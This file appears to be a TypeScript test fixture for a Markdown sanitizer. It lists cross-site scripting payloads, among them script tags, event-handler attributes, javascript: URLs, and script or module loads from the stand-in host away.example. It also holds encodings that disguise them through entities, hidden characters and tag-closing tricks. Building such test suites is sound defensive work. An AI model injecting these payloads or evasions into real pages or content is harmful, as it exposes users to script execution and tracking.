/** Where every attack of the tests wants to lead; nothing answers there. */
export const away = 'https://away.example';

/** The attacks that `vectors` are made of: each loads, runs or opens something wherever it becomes part of a page. */
export const vectors: readonly string[] = [
  `<img src="${away}/1">`,
  '<img src=x onerror=alert(1)>',
  `<img srcset="${away}/3 1x">`,
  `<picture><source srcset="${away}/4"><img></picture>`,
  `<image src="${away}/5">`,
  `<svg><image href="${away}/6"/></svg>`,
  '<svg onload=alert(1)>',
  `<svg><use href="${away}/8#x"/></svg>`,
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  `<svg><feImage href="${away}/11"/></svg>`,
  `<math><mi xlink:href="${away}/12" href="javascript:alert(1)">x</mi></math>`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  `<script src="${away}/15"></script>`,
  `<script type="module">import("${away}/16")</script>`,
  `<iframe src="${away}/17"></iframe>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  `<object data="${away}/20"></object>`,
  `<embed src="${away}/21">`,
  `<frameset><frame src="${away}/22"></frameset>`,
  `<link rel="stylesheet" href="${away}/23">`,
  `<link rel="preload" as="image" href="${away}/24">`,
  `<link rel="dns-prefetch" href="${away}"><link rel="preconnect" href="${away}">`,
  `<style>@import "${away}/26";</style>`,
  `<style>*{background:url(${away}/27)}</style>`,
  `<div style="background:url(${away}/28)">x</div>`,
  `<style>@font-face{font-family:x;src:url(${away}/29)}*{font-family:x}</style>`,
  `<video src="${away}/30" autoplay></video>`,
  `<video poster="${away}/31"></video>`,
  `<audio src="${away}/32" autoplay></audio>`,
  `<audio><source src="${away}/33" onerror=alert(1)></audio>`,
  `<track src="${away}/34"><input type=image src="${away}/34">`,
  `<body background="${away}/35" onload=alert(1)>`,
  `<table background="${away}/36"><td background="${away}/36">x</table>`,
  `<meta http-equiv="refresh" content="0;url=${away}/37">`,
  `<base href="${away}/"><a href="38">x</a>`,
  `<form action="${away}/39"><button autofocus onfocus=alert(1)>x</button></form>`,
  '<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onmouseover=alert(1) onpointerenter=alert(1) style="position:fixed;inset:0">x</div>',
  '<a href="vscode:extension/evil.evil">x</a><a href="command:workbench.action.quit">y</a>',
  `<portal src="${away}/46"></portal><fencedframe></fencedframe>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<template shadowrootmode="open"><img src="${away}/48"></template>`,
];

const entities = (text: string) => Array.from(text, (character) => `&#${character.codePointAt(0)};`).join('');
const address = (vector: string) =>
  /(?:https|javascript|vscode|command):[^"')>\s]*/.exec(vector)?.[0] ?? 'javascript:alert(1)';

/** The same attack as different Markdown would carry it. */
export const encodings: Readonly<Record<string, (vector: string) => string>> = {
  raw: (vector) => vector,
  'inside words': (vector) => `Die Frist **beträgt ${vector} zwei** Wochen [1].`,
  'HTML block': (vector) => `\n\n<div>\n${vector}\n</div>\n\n`,
  'list and quote': (vector) => `- a\n  - ${vector}\n\n> ${vector}\n`,
  table: (vector) => `| a | ${vector.replaceAll('|', '')} |\n|---|---|\n| ${vector.replaceAll('|', '')} | b |\n`,
  'code fence': (vector) => `\`\`\`${vector.replaceAll('`', '').replaceAll('\n', '')}\n${vector}\n\`\`\`\n`,
  entities: (vector) => entities(vector),
  'image and link': (vector) => `![${vector}](${address(vector)}) [![x](${address(vector)})](${address(vector)})`,
  'reference that comes late': (vector) =>
    `[x] ![x] ${vector}\n\n[x]: ${address(vector)} '${vector.replaceAll("'", '')}'\n`,
  'title of a link': (vector) => `[x](https://a.example/ '${vector.replaceAll("'", '')}') <${address(vector)}>`,
  'mixed case, tabs, control characters': (vector) =>
    vector
      .replace(/[a-z]+(?=[:\s>=])/g, (word) => `${word.slice(0, 1).toUpperCase()}${word.slice(1)}`)
      .replaceAll('=', '\t=\u000c')
      .replaceAll('script:', 'scr\tipt:'),
  'hidden characters and null': (vector) =>
    `\u202e\u0000${vector.replaceAll('<', '\u200b<').replaceAll('script', 'scr\u0000ipt')}\ufeff`,
  'closing what is around': (vector) => `"'--></textarea></style></script></title>]]>${vector}<!--`,
};
